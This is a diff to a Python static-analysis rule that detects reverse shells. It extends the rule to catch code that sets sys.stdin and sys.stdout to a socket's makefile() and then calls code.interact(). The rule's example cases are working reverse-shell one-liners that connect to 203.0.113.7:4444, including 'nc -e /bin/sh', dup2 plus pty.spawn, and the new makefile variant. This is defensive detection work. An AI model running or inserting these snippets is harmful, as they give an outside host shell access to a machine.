@@ -30,14 +30,18 @@ CONNECT_CALLS = ("socket.socket().connect", "socket.socket().connect_ex", "socke
                  "asyncio.open_connection", "telnetlib.Telnet", "telnetlib.Telnet().open", "ssl.wrap_socket().connect",
                  "*.wrap_socket().connect", "websocket.create_connection", "socket.socket().*connect")
 
+_STANDARD_STREAMS = {f"sys.{prefix}{name}{suffix}": fd for fd, name in enumerate(("stdin", "stdout", "stderr"))
+                     for prefix, suffix in (("", ""), ("__", "__"))}
+
 # Pre-screen (necessary for any report, see rules/_prescreen.py): a spawner (a one-liner handed to it, or a spawn
-# wired to a connection), or an outbound connection with os.dup2 or `.stdin.write` (the other wirings); or what the
-# reduced scan (`fallback.reverse_shell`) needs: socket text, then a dup2/spawn call or a one-liner in a string
-# (escapes and implicit concatenation can hide one in the source text, so any backslash or string juxtaposition).
+# wired to a connection), or an outbound connection with os.dup2, `.stdin.write` or `sys.stdin`/`stdout`/`stderr`
+# (the other wirings); or what the reduced scan (`fallback.reverse_shell`) needs: socket text, then a dup2/spawn
+# call or a one-liner in a string (escapes and implicit concatenation can hide one in the source text, so any
+# backslash or string juxtaposition).
 _APPLIES = ps.any_of(
     ps.SPAWN,
     ps.all_of(ps.any_of(ps.Names(CONNECT_CALLS), ps.word("connect", "connect_ex")),
-              ps.any_of(ps.DUP2, ps.STDIN_WRITE)),
+              ps.any_of(ps.DUP2, ps.STDIN_WRITE, ps.Names(sorted(_STANDARD_STREAMS)))),
     # the reduced scan's own gate (`fallback._SOCKET_TEXT`, its words looked up in the word set), read in any text
     ps.in_full_text(ps.all_of(ps.any_of(ps.word("socket", "create_connection"), ps.regex("/dev/(?:tcp|udp)/")),
                               ps.any_of(ps.word("dup2", "spawn"), lambda v: v.search(fallback._REVSHELL_TEXT),
@@ -48,7 +52,7 @@ _APPLIES = ps.any_of(
 @dataclass
 class _Scope:
     connects: list[cst.Call] = field(default_factory=list)
-    wirings: list[tuple[cst.Call, str, bool]] = field(default_factory=list)  # (call, what, strong)
+    wirings: list[tuple[cst.CSTNode, str, bool]] = field(default_factory=list)  # (call or value, what, strong)
     candidates: list[cst.Call] = field(default_factory=list)  # spawns, dup2, pty.spawn seen in the scope
     node: cst.CSTNode | None = None
 
@@ -100,8 +104,6 @@ def _opened_file(an: Analyzer, expr: cst.BaseExpression) -> bool:
     return bool(names) and all(n.startswith(_FILE_OPENERS) and "socket" not in n for n in names)
 
 
-_STANDARD_STREAMS = {f"sys.{prefix}{name}{suffix}": fd for fd, name in enumerate(("stdin", "stdout", "stderr"))
-                     for prefix, suffix in (("", ""), ("__", "__"))}
 
 
 def _standard_fd(an: Analyzer, expr: cst.BaseExpression, scope: cst.CSTNode | None) -> str | None:
@@ -164,7 +166,8 @@ class ReverseShell(ps.CodeScreen, FunctionScopes, Rule):
     Finds a function (or module) that connects out with `socket`, `asyncio.open_connection`,
     `telnetlib`, `ssl.wrap_socket` or `socket.create_connection` and hands that connection to a
     shell: `os.dup2` of the socket onto file descriptors 0/1/2 (written as numbers, as
-    `sys.stdout.fileno()`, or as the variable of a loop over them), `pty.spawn`, a `subprocess` whose
+    `sys.stdout.fileno()`, or as the variable of a loop over them), `sys.stdin`/`sys.stdout` set to the
+    connection (`sock.makefile()`, for `code.interact()`), `pty.spawn`, a `subprocess` whose
     stdin/stdout is the socket, or a spawner running commands read from it. When the connection
     and the shell sit in different functions (`shell(connect())`, a thread pumping `sock.recv()`
     into `proc.stdin.write`), a function that runs what a socket sends as the whole command, in a
@@ -219,6 +222,8 @@ class ReverseShell(ps.CodeScreen, FunctionScopes, Rule):
         "import subprocess\nsubprocess.Popen(['nc', '-e', '/bin/sh', '203.0.113.7', '4444'])\n",
         "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
         "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/sh')\n",
+        "import code, socket, sys\ns = socket.create_connection(('203.0.113.7', 4444))\n"
+        "sys.stdin = sys.stdout = s.makefile('rw')\ncode.interact()\n",
     )
 
     @classmethod
@@ -236,6 +241,20 @@ class ReverseShell(ps.CodeScreen, FunctionScopes, Rule):
         self._scopes: list[_Scope] = []
         self._all_connects: list[cst.Call] = []
         self._orphans: list[tuple[cst.Call, cst.CSTNode]] = []  # candidates in functions that do not connect
+
+    def visit_Assign(self, node: cst.Assign) -> None:
+        """`sys.stdin = sys.stdout = sock.makefile("rw")`: the interpreter's own streams on the connection (then
+        `code.interact()` or `pty.spawn` serve a shell over it)."""
+        an = Analyzer.of(self.context)
+        streams = sorted(q for t in node.targets for q in an.names.qualified_names(t.target) if q in _STANDARD_STREAMS)
+        if not streams:
+            return
+        value = node.value
+        if isinstance(value, cst.Name):
+            value = an.names.single_value(value.value) or value
+        if "makefile" in code_of(value, 200) or any("socket" in q or "create_connection" in q
+                                                    for q in an.names.qualified_names(value)):
+            self._scopes[-1].wirings.append((node.value, f"{', '.join(streams)} set to the connection", True))
 
     def visit_Call(self, node: cst.Call) -> None:
         an = Analyzer.of(self.context)
